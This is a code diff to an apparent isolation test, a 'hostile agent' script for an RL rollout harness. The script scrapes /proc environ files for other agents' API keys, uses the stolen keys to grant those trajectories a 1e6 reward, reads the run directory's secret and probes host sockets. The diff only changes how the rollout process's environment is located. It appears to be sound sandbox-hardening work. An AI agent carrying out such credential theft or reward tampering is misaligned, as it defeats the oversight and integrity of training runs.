@@ -1,10 +1,10 @@
 """A hostile agent process (rollout.agent: openai): what a model-driven agent could try
 against the other agents and the rollout. Usage:
 
-    python hostile_agent.py REPORT_TAG SECONDS RUN_DIR DECOY_HOST:PORT DECOY_SOCKET
+    python hostile_agent.py REPORT_TAG SECONDS RUN_DIR DECOY_HOST:PORT DECOY_SOCKET ROLLOUT_PID
 
 For SECONDS it scans /proc/*/environ for the other agents' OPENAI_API_KEY (and their
-trajectory ids) and the rollout's environment (the pytest process's); it tries each stolen
+trajectory ids) and reads the rollout's (ROLLOUT_PID's); it tries each stolen
 key: a reward of 1e6 and done on that trajectory; it tries its own key on the others, reads
 RUN_DIR (channel.secret, the agents' records), connects to a TCP listener and a Unix
 socket of the host. Then it prints `REPORT_TAG <json of what succeeded>` and exits 3 (its
@@ -23,18 +23,16 @@ import httpx
 
 
 def environs() -> list[dict[str, str]]:
-    """The environment of every process it can read; the rollout's (pytest, or the rollout
-    launcher) marked with ROLLOUT=1."""
+    """The environment of every process it can read."""
     out = []
     for path in glob.glob("/proc/[0-9]*/environ"):
         if path == f"/proc/{os.getpid()}/environ":
             continue
         try:
             raw = open(path, "rb").read()
-            cmd = open(path[:-len("environ")] + "cmdline", "rb").read()
         except OSError:
             continue
-        env = {"ROLLOUT": "1"} if raw and (b"pytest" in cmd or b"rollout.py" in cmd) else {}
+        env = {}
         for item in raw.split(b"\0"):
             k, sep, v = item.partition(b"=")
             if sep:
@@ -44,7 +42,7 @@ def environs() -> list[dict[str, str]]:
 
 
 def main() -> int:
-    tag, seconds, run_dir, decoy, decoy_sock = sys.argv[1:6]
+    tag, seconds, run_dir, decoy, decoy_sock, rollout_pid = sys.argv[1:7]
     me = os.environ["TSYNC_TRAJECTORY_ID"]
     base = os.environ["OPENAI_BASE_URL"]  # .../t/<me>/v1
     root = base[:base.index(f"/t/{me}/")]
@@ -57,8 +55,6 @@ def main() -> int:
     http = httpx.Client(timeout=10)
     while time.monotonic() < deadline:
         for env in environs():
-            if "ROLLOUT" in env:
-                report["rollout_env"] = True
             tid, key = env.get("TSYNC_TRAJECTORY_ID"), env.get("OPENAI_API_KEY")
             if tid and key and tid != me and tid not in found:
                 found[tid] = key
@@ -68,6 +64,10 @@ def main() -> int:
                     report["rewarded"].append(tid)
         time.sleep(0.1)
     report["keys"] = sorted(found)
+    try:  # the rollout's environment (its pid on the host)
+        report["rollout_env"] = bool(open(f"/proc/{rollout_pid}/environ", "rb").read())
+    except OSError:
+        pass
     for tid in ("a", "b"):
         r = http.post(f"{root}/t/{tid}/v1/done", json={"reward": 1e6},
                       headers={"Authorization": f"Bearer {found.get(tid, mine)}"})
